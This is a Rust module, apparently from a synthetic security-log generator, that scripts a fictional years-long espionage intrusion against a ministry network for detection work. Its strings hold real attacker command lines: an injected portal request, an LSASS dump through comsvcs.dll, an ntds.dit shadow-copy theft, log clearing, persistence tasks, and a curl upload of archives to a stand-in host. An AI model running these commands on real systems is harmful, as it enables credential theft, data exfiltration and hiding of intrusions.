//! Intrusion A: patient espionage, from August 2022 to April 2025, with long silences.
//!
//! In by the VPN device and a web shell; credentials, a side-loaded backdoor, the file server, the
//! directory, the minister's secretary's mail; out over HTTPS and DNS. It works at night and at
//! weekends, and uses what is there.

use blanik_model::Timestamp;

use super::chronicle::{Chronicle, Deed, Intruder};
use super::clock::{after, minutes};
use super::mail::Reading;
use super::network::{
    APP01, BCK01, DC01, DC02, FS01, GATEWAY, Host, Person, STAFF, SVC_BACKUP, SVC_DEPLOY,
    SVC_PORTAL, SVC_PRINT, SVC_SQL, UPDATES, VPN, VPN_NAME, WEB01,
};
use super::security::{Audited, Origin};
use super::suricata::{Signature, Talk};
use super::sysmon::Launch;
use super::windows::{Channel, Process, Session};
use super::zeek::{Request, Traffic};

/// From where the VPN device is attacked and the web shell used.
const ENTRY: &str = "203.0.113.57";
/// What the backdoor reports to.
const CONTROL: (&str, &str) = ("telemetry.scanner-cloud.example", "198.51.100.203");
/// Where the archives go.
const DROP: (&str, &str) = ("backup.file-relay.example", "203.0.113.140");
/// From where the mailbox is read.
const READER: &str = "198.51.100.77";
/// The domain of the DNS tunnel.
const TUNNEL: &str = "t1.cdn-metrics.example";
/// The web shell.
const SHELL: &str = "/aspnet_client/system_web/errorPage.aspx";
/// The application that the secretary let in.
const APPLICATION: (&str, &str) = ("Calendar Companion", "c4113a0a-7777-4b1d-8f00-0000000000a1");

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const BACKDOOR_FOLDER: &str = "C:\\ProgramData\\ScanUtil";
const BACKDOOR: &str = "C:\\ProgramData\\ScanUtil\\ScanUpd.exe";
const BACKDOOR_TASK: &str = "\\Microsoft\\Windows\\Scanner\\ScanUtil Update";

/// Does all of it.
pub fn tell(c: &mut Chronicle) {
    break_in(c);
    let portal = web_shell(c);
    steal_first_password(c, &portal);
    move_to_registry(c);
    roast(c);
    let backdoor = install_backdoor(c);
    beacons(c, &backdoor);
    rob_file_server(c);
    rob_directory(c);
    replicate(c);
    read_mailbox(c);
    tunnel(c);
    clear_traces(c);
    come_back(c);
}

fn deed(technique: &'static str, host: &Host, account: &str, what: &str) -> Deed {
    Deed::on(Intruder::A, technique, host, account, what)
}

fn mail_deed(technique: &'static str, who: &Person, what: &str) -> Deed {
    Deed::in_cloud(Intruder::A, technique, &who.mail(), what)
}

/// The moment, up to ten minutes later by the seed.
fn at(c: &mut Chronicle, time: &str) -> Timestamp {
    let time = time.parse().expect("the story's times are times");
    after(time, c.random.millis(0, minutes(10)))
}

fn break_in(c: &mut Chronicle) {
    let time = at(c, "2022-08-09T01:13:00Z");
    let what = "The VPN device is exploited through a crafted request to its portal.";
    c.step(deed("T1190", &WEB01, "", what).at_device(VPN_NAME), |c| {
        let uri = "/remote/portal/..;/admin/api/v1/diag?host=127.0.0.1%3Bid";
        let traffic = Traffic { service: "http", millis: 2_210, sent: 2_840, received: 6_120 };
        let flow = c.flow(time, ENTRY, VPN, 443, traffic);
        let request = Request {
            method: "POST",
            host: VPN_NAME,
            uri,
            agent: "python-requests/2.27.1",
            lengths: (2_210, 5_480),
            status: 200,
            mime: "text/html",
        };
        c.requested(&flow, request);
        let signature = Signature {
            id: 9_100_010,
            message: "MZV LOCAL EXPLOIT VPN portal path traversal",
            category: "Attempted Administrator Privilege Gain",
            severity: 1,
        };
        let talk = Talk { from: ENTRY, to: VPN, port: 443 };
        c.alerted(after(time, 3), talk, signature, Some(("POST", VPN_NAME, uri)));
    });
}

fn iis(c: &mut Chronicle) -> (Session, Process) {
    let session = Session {
        host: &WEB01,
        account: "DefaultAppPool".into(),
        domain: "IIS APPPOOL".into(),
        sid: "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415".into(),
        logon_id: "0x3b1f2".into(),
        integrity: "High",
    };
    let line = "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\"";
    let worker = c.running(&session, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", line);
    (session, worker)
}

fn shell_request(c: &mut Chronicle, time: Timestamp, from: &str) {
    let sent = c.random.between(600, 3_000);
    let received = c.random.between(400, 20_000);
    let traffic = Traffic { service: "http", millis: 1_300, sent, received };
    let flow = c.flow(time, from, WEB01.address, 80, traffic);
    let request = Request {
        method: "POST",
        host: "www.mzv.example",
        uri: SHELL,
        agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0",
        lengths: (sent - 300, received - 200),
        status: 200,
        mime: "text/plain",
    };
    c.requested(&flow, request);
}

/// Runs a command line through the web shell.
fn by_shell(c: &mut Chronicle, time: Timestamp, image: &str, command: &str) -> Process {
    let (session, worker) = iis(c);
    let line = format!("\"cmd.exe\" /c {command} 2>&1");
    let launch = Launch::of(CMD, &line).in_directory("c:\\windows\\system32\\inetsrv\\");
    let cmd = c.start(time, &session, &worker, launch);
    c.start(after(time, 60), &session, &cmd, Launch::of(image, command))
}

fn web_shell(c: &mut Chronicle) -> Process {
    let time = at(c, "2022-08-09T02:41:00Z");
    let pool = "DefaultAppPool";
    let what = "A web shell is written into the web site's folder.";
    c.step(deed("T1505.003", &WEB01, pool, what), |c| {
        let (_, worker) = iis(c);
        c.file_created(time, &worker, &format!("C:\\inetpub\\wwwroot{}", SHELL.replace('/', "\\")));
    });
    let time = after(time, minutes(3));
    c.step(deed("T1071.001", &WEB01, pool, "The web shell is called from abroad."), |c| {
        shell_request(c, time, ENTRY);
    });
    let commands = [
        ("T1033", "whoami.exe", "whoami /all", "The intruder asks which account the shell has."),
        ("T1482", "nltest.exe", "nltest /domain_trusts", "The intruder asks for domain trusts."),
        (
            "T1069.002",
            "net.exe",
            "net group \"Domain Admins\" /domain",
            "The intruder lists the domain's administrators.",
        ),
    ];
    let mut last = None;
    for (index, (technique, program, command, what)) in (1_i64..).zip(commands) {
        let time = after(time, index * 95_000);
        c.step(deed(technique, &WEB01, pool, what), |c| {
            let image = format!("C:\\Windows\\System32\\{program}");
            last = Some(by_shell(c, time, &image, command));
        });
    }
    last.expect("there were commands")
}

fn steal_first_password(c: &mut Chronicle, portal: &Process) {
    let time = at(c, "2022-08-23T23:52:00Z");
    let what = "The memory of LSASS is dumped with a library of Windows.";
    c.step(deed("T1003.001", &WEB01, "SYSTEM", what), |c| {
        let system = Session::system(&WEB01);
        let image = "C:\\Windows\\System32\\rundll32.exe";
        let line = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 \
                    C:\\Windows\\Temp\\~DF3A1.tmp full";
        let dumper = c.start(time, &system, portal, Launch::of(image, line));
        let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\\
                     KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+2c2ad";
        c.lsass_opened(after(time, 210), &dumper, "0x1fffff", trace);
        c.file_created(after(time, 320), &dumper, "C:\\Windows\\Temp\\~DF3A1.tmp");
    });
}

fn wmi_provider(c: &mut Chronicle, host: &'static Host) -> Process {
    let system = Session::system(host);
    let image = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    c.running(&system, image, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding")
}

fn move_to_registry(c: &mut Chronicle) {
    let time = at(c, "2022-09-03T22:20:00Z");
    let account = SVC_PORTAL.account;
    let what = "The web application's stolen account logs on to the registry server by NTLM.";
    let session = c.session(&SVC_PORTAL, &APP01).raised();
    c.step(deed("T1550.002", &APP01, account, what), |c| {
        c.logged_on(time, &session, 3, Origin::ntlm(&WEB01));
        c.ntlm_checked(after(time, 4), &DC01, account, &WEB01);
    });
    let what = "A command is run on the registry server through WMI.";
    c.step(deed("T1047", &APP01, account, what), |c| {
        let provider = wmi_provider(c, &APP01);
        let line = "cmd.exe /Q /c quser 1> \\\\127.0.0.1\\ADMIN$\\__1662244801.51 2>&1";
        c.start(after(time, 3_200), &session, &provider, Launch::of(CMD, line));
        let traffic = Traffic { service: "dce_rpc", millis: 900, sent: 5_100, received: 3_400 };
        let flow = c.flow(after(time, 2_900), WEB01.address, APP01.address, 49_672, traffic);
        c.called(&flow, "49672", "IWbemServices", "ExecMethod");
    });
}

fn roast(c: &mut Chronicle) {
    let time = at(c, "2022-09-14T21:05:00Z");
    let what = "Tickets with weak encryption are asked for four service accounts in a row.";
    c.step(deed("T1558.003", &DC01, SVC_PORTAL.account, what), |c| {
        let services = [&SVC_SQL, &SVC_BACKUP, &SVC_PRINT, &SVC_DEPLOY];
        for (index, service) in (0_i64..).zip(services) {
            let time = after(time, index * 1_730);
            c.service_ticket(time, &DC01, SVC_PORTAL.account, &APP01, service.account, "0x17");
        }
    });
}

fn install_backdoor(c: &mut Chronicle) -> Process {
    let time = at(c, "2022-10-08T20:31:00Z");
    let account = SVC_SQL.account;
    let session = c.session(&SVC_SQL, &APP01).raised();
    let provider = wmi_provider(c, &APP01);
    let cmd = c.running(&session, CMD, "cmd.exe /Q /c dir");
    let what = "A genuine program and a false library are put side by side.";
    c.step(deed("T1105", &APP01, account, what), |c| {
        c.file_created(time, &provider, BACKDOOR);
        c.file_created(after(time, 400), &provider, &format!("{BACKDOOR_FOLDER}\\version.dll"));
    });
    let what = "The false library's creation time is set back two years.";
    c.step(deed("T1070.006", &APP01, account, what), |c| {
        let file = format!("{BACKDOOR_FOLDER}\\version.dll");
        c.file_time_changed(after(time, 9_000), &cmd, &file, "2020-11-19 03:08:14.000");
    });
    let what = "A scheduled task starts the backdoor every morning.";
    c.step(deed("T1053.005", &APP01, account, what), |c| {
        let image = "C:\\Windows\\System32\\schtasks.exe";
        let line = format!(
            "schtasks  /create /f /ru SYSTEM /sc daily /st 07:40 /tn \"{}\" /tr \"{BACKDOOR}\"",
            &BACKDOOR_TASK[1..]
        );
        let time = after(time, 70_000);
        c.start(time, &session, &cmd, Launch::of(image, &line));
        c.task_registered(after(time, 310), &session, BACKDOOR_TASK, BACKDOOR, "");
    });
    let time = at(c, "2022-10-10T05:40:00Z");
    let what = "The genuine program loads the false library: the backdoor runs.";
    c.step(deed("T1574.002", &APP01, "SYSTEM", what), |c| {
        let system = Session::system(&APP01);
        let line = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule";
        let schedule = c.running(&system, "C:\\Windows\\System32\\svchost.exe", line);
        let program = c.start(time, &system, &schedule, Launch::of(BACKDOOR, BACKDOOR));
        let library = format!("{BACKDOOR_FOLDER}\\version.dll");
        c.library_loaded(after(time, 90), &program, &library, "");
        program
    })
}

/// The backdoor reports once or twice a month; to the logs it is one more cloud service.
fn beacons(c: &mut Chronicle, backdoor: &Process) {
    let first: Timestamp = "2022-10-10T05:52:00Z".parse().expect("a time");
    let what = "The backdoor reports over HTTPS, to a name like a cloud service's.";
    c.step(deed("T1071.001", &APP01, "SYSTEM", what), |c| {
        let mut time = first;
        let end: Timestamp = "2025-04-11T06:00:00Z".parse().expect("a time");
        while time < end {
            c.connected(time, backdoor, CONTROL, 443);
            let (sent, received) = (c.random.between(1_100, 2_400), c.random.between(900, 5_000));
            let traffic = Traffic { service: "ssl", millis: 1_400, sent, received };
            let flow = c.flow(after(time, 20), APP01.address, CONTROL.1, 443, traffic);
            c.shook_hands(&flow, CONTROL.0, "ok");
            time = after(time, minutes(60 * 24 * 17) + c.random.millis(0, minutes(60 * 24 * 9)));
        }
    });
}

fn rob_file_server(c: &mut Chronicle) {
    let time = at(c, "2023-03-18T21:10:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &FS01).raised();
    let system = Session::system(&FS01);
    let what = "The backup's account logs on to the file server from the registry server.";
    c.step(deed("T1078.002", &FS01, account, what), |c| {
        c.logged_on(time, &session, 3, Origin::kerberos(&APP01));
    });
    let what = "A service is created on the file server to run a command as SYSTEM.";
    let cmd = c.step(deed("T1569.002", &FS01, account, what), |c| {
        let command = "%COMSPEC% /Q /c echo dir D:\\Shares ^> \\\\127.0.0.1\\C$\\__out 2^>^&1 > \
                       %TEMP%\\exe.bat & %COMSPEC% /Q /c %TEMP%\\exe.bat";
        let time = after(time, 4_000);
        c.service_installed(time, &session, "WinUpdSrv", command, Audited::Yes);
        let traffic =
            Traffic { service: "gssapi,smb,dce_rpc", millis: 800, sent: 6_000, received: 4_200 };
        let flow = c.flow(after(time, -300), APP01.address, FS01.address, 445, traffic);
        c.called(&flow, "\\pipe\\svcctl", "svcctl", "CreateServiceW");
        let image = "C:\\Windows\\System32\\services.exe";
        let services = c.running(&system, image, "C:\\Windows\\system32\\services.exe");
        let line = "C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\exe.bat";
        c.start(after(time, 500), &system, &services, Launch::of(CMD, line))
    });
    let time = after(time, minutes(26));
    let what = "A renamed RAR packs the political section's documents with a password.";
    c.step(deed("T1560.001", &FS01, "SYSTEM", what), |c| {
        let line = "C:\\ProgramData\\Intel\\igfxsvc.exe a -r -m3 -v200m -ta20220801000000 \
                    -hpZe7tra!Vlt C:\\ProgramData\\Intel\\Logs\\gfx.dat D:\\Shares\\Politicka\\*.docx";
        let image = "C:\\ProgramData\\Intel\\igfxsvc.exe";
        let launch = Launch { really: "rar.exe", ..Launch::of(image, line) };
        let packer = c.start(time, &system, &cmd, launch);
        for part in 1..=4_i64 {
            let file = format!("C:\\ProgramData\\Intel\\Logs\\gfx.part{part}.dat");
            c.file_created(after(time, part * 88_000), &packer, &file);
        }
    });
    let time = at(c, "2023-03-19T01:20:00Z");
    let what = "Some 800 MB leave over HTTPS at night.";
    c.step(deed("T1048.002", &FS01, "SYSTEM", what), |c| {
        let traffic =
            Traffic { service: "ssl", millis: 1_910_000, sent: 812_440_120, received: 3_120_448 };
        let flow = c.flow(time, FS01.address, DROP.1, 443, traffic);
        c.shook_hands(&flow, DROP.0, "self signed certificate");
    });
}

fn rob_directory(c: &mut Chronicle) {
    let time = at(c, "2023-06-03T22:02:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &DC01).raised();
    let cmd = c.running(&session, CMD, "cmd.exe");
    let steps = [
        (
            "T1003.003",
            "vssadmin.exe",
            "vssadmin  create shadow /for=C:",
            "A shadow copy of the domain controller's disk is made.",
        ),
        (
            "T1003.003",
            "cmd.exe",
            "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\\
             ntds.dit C:\\Windows\\Temp\\mpcache.bin",
            "The directory's database is copied out of the shadow copy.",
        ),
        (
            "T1003.002",
            "reg.exe",
            "reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\mpcache2.bin",
            "The registry hive with the database's key is saved.",
        ),
    ];
    c.logged_on(after(time, -4_000), &session, 3, Origin::kerberos(&APP01));
    for (index, (technique, program, line, what)) in (0_i64..).zip(steps) {
        let time = after(time, index * 47_000);
        c.step(deed(technique, &DC01, account, what), |c| {
            let image = format!("C:\\Windows\\System32\\{program}");
            c.start(time, &session, &cmd, Launch::of(&image, line));
        });
    }
}

fn replicate(c: &mut Chronicle) {
    let time = at(c, "2023-09-02T23:31:00Z");
    let account = SVC_BACKUP.account;
    let what = "The directory's secrets are replicated by an account that is no controller.";
    let session = c.session(&SVC_BACKUP, &DC02).raised();
    c.step(deed("T1003.006", &DC02, account, what), |c| {
        c.replicated(time, &session);
        let traffic = Traffic { service: "dce_rpc", millis: 400, sent: 3_700, received: 61_000 };
        let flow = c.flow(after(time, -30), APP01.address, DC02.address, 49_671, traffic);
        c.called(&flow, "49671", "drsuapi", "DRSGetNCChanges");
    });
}

fn read_mailbox(c: &mut Chronicle) {
    let secretary = &STAFF[0];
    let time = at(c, "2023-11-21T09:14:00Z");
    let what = "The minister's secretary lets a malicious application read her mail.";
    c.step(mail_deed("T1528", secretary, what), |c| {
        let scope = "offline_access User.Read Mail.Read Mail.ReadWrite";
        c.consented(time, secretary, GATEWAY, APPLICATION, scope, "False");
    });
    let time = at(c, "2023-11-27T22:47:00Z");
    let what = "An inbox rule deletes messages that warn of the intrusion.";
    c.step(mail_deed("T1564.008", secretary, what), |c| {
        let parameters = [
            ("Name", "."),
            ("SubjectOrBodyContainsWords", "security;phishing;bezpečnost;hacked"),
            ("DeleteMessage", "True"),
            ("MarkAsRead", "True"),
            ("StopProcessingRules", "True"),
        ];
        c.mail_command(time, secretary, READER, "New-InboxRule", &parameters);
    });
    let what = "The application reads hundreds of messages of the secretary's mailbox from abroad.";
    c.step(mail_deed("T1114.002", secretary, what), |c| {
        let days = ["2023-12-03", "2024-01-14", "2024-03-10", "2024-05-26", "2024-09-15"];
        for (index, day) in days.into_iter().enumerate() {
            let time = at(c, &format!("{day}T23:08:00Z"));
            let folder = if index % 2 == 0 { "\\Inbox" } else { "\\Inbox\\Kabinet" };
            let reading = Reading {
                application: APPLICATION.1,
                client: "Client=REST;Client=RESTSystem;;",
                access: "Bind",
                folder,
                count: c.random.between(60, 400),
            };
            c.mail_read(time, secretary, READER, reading);
        }
    });
    let time = at(c, "2024-04-07T22:30:00Z");
    let what = "The chief of cabinet's mail is forwarded to an address outside.";
    let chief = &STAFF[1];
    c.step(mail_deed("T1114.003", chief, what), |c| {
        let parameters = [
            ("Identity", chief.account),
            ("ForwardingSmtpAddress", "smtp:m.benes.archiv@post.webmail.example"),
            ("DeliverToMailboxAndForward", "True"),
        ];
        c.mail_command(time, chief, READER, "Set-Mailbox", &parameters);
    });
}

/// Letters that a tunnel's names are made of.
const BASE32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";

fn tunnel(c: &mut Chronicle) {
    let time = at(c, "2024-07-20T00:40:00Z");
    let what = "Documents leave hidden in the names of DNS queries.";
    c.step(deed("T1048.003", &APP01, "SYSTEM", what), |c| {
        let mut time = time;
        for number in 0..70 {
            let (one, two) = (c.random.letters(54, BASE32), c.random.letters(52, BASE32));
            let query = format!("{number:04x}{one}.{two}.{TUNNEL}");
            let answer = format!("TXT 12 {}", c.random.letters(12, BASE32));
            c.asked(time, APP01.address, &query, "TXT", &answer);
            time = after(time, c.random.millis(400, 2_600));
        }
    });
}

fn clear_traces(c: &mut Chronicle) {
    let time = at(c, "2024-10-12T23:15:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &FS01).raised();
    let cmd = c.running(&session, CMD, "cmd.exe");
    let what = "The file server's security log is cleared.";
    c.step(deed("T1070.001", &FS01, account, what), |c| {
        let image = "C:\\Windows\\System32\\wevtutil.exe";
        c.start(time, &session, &cmd, Launch::of(image, "wevtutil  cl Security"));
        c.log_cleared(after(time, 140), &session, Channel::Security);
    });
    let what = "The file server's system log is cleared.";
    c.step(deed("T1070.001", &FS01, account, what), |c| {
        let time = after(time, 6_000);
        let image = "C:\\Windows\\System32\\wevtutil.exe";
        c.start(time, &session, &cmd, Launch::of(image, "wevtutil  cl System"));
        c.log_cleared(after(time, 150), &session, Channel::System);
    });
}

fn come_back(c: &mut Chronicle) {
    let time = at(c, "2025-02-08T22:55:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &BCK01).raised();
    let what = "After months of silence the backup's account logs on to its server at night, from \
                an address of the VPN.";
    c.step(deed("T1078.002", &BCK01, account, what), |c| {
        let origin = Origin { workstation: "-", address: "10.20.60.44", package: "Kerberos" };
        c.logged_on(time, &session, 3, origin);
    });
    let time = after(time, minutes(4));
    let what = "A WMI subscription starts a library whenever the server has run for minutes.";
    c.step(deed("T1546.003", &BCK01, account, what), |c| {
        let query = "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA \
                     'Win32_PerfFormattedData_PerfOS_System'";
        let command =
            "C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Backup\\bkpsync.dll,Run";
        c.wmi_subscribed(time, &session, "BackupHealth", query, command);
    });
    let time = at(c, "2025-04-12T21:33:00Z");
    let what = "An archive is sent out with curl, under the name of an update.";
    c.step(deed("T1048.002", &BCK01, account, what), |c| {
        let cmd = c.running(&session, CMD, "cmd.exe");
        let image = "C:\\Windows\\System32\\curl.exe";
        let line = format!(
            "curl  -k -s -T C:\\ProgramData\\Backup\\kb5034.cab https://{}/u/kb5034.cab",
            DROP.0
        );
        let curl = c.start(time, &session, &cmd, Launch::of(image, &line));
        c.connected(after(time, 300), &curl, DROP, 443);
        let (sent, received) = (214_003_120, 880_000);
        let traffic = Traffic { service: "ssl", millis: 610_000, sent, received };
        let flow = c.flow(after(time, 310), BCK01.address, DROP.1, 443, traffic);
        c.shook_hands(&flow, DROP.0, "self signed certificate");
    });
    // The last traffic looks like any update.
    let traffic = Traffic { service: "ssl", millis: 900, sent: 1_900, received: 8_000 };
    let flow = c.flow(after(time, minutes(30)), BCK01.address, UPDATES.1, 443, traffic);
    c.shook_hands(&flow, UPDATES.0, "ok");
}
